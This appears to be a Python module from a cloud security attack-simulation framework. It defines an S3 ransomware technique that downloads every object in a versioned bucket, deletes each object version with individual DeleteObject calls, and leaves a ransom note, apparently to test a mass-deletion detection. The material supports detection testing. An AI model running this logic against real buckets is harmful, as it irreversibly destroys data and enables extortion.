"""S3 ransomware through individual object deletion."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, technique
from cloudsoc.simulate.techniques.impact._ransom_bucket import (
    NOTE,
    NOTE_KEY,
    RansomBucketTechnique,
    all_versions,
    download_all,
)


@technique
class S3RansomwareIndividualDeletion(RansomBucketTechnique):
    title = "S3 ransomware through individual file deletion"
    attack = ("T1485",)
    expects = ("s3_mass_object_deletion",)
    description = (
        "Downloads every object of a versioned bucket, then deletes every version of every object one "
        "DeleteObject at a time (versioning is no protection), and leaves a ransom note."
    )

    def detonate(self, ctx: Ctx, state: Json) -> None:
        s3 = client("s3", session=ctx.attacker())
        bucket = state["bucket"]
        download_all(s3, bucket)
        for version in all_versions(s3, bucket):
            s3.delete_object(Bucket=bucket, **version)
        s3.put_object(Bucket=bucket, Key=NOTE_KEY, Body=NOTE)
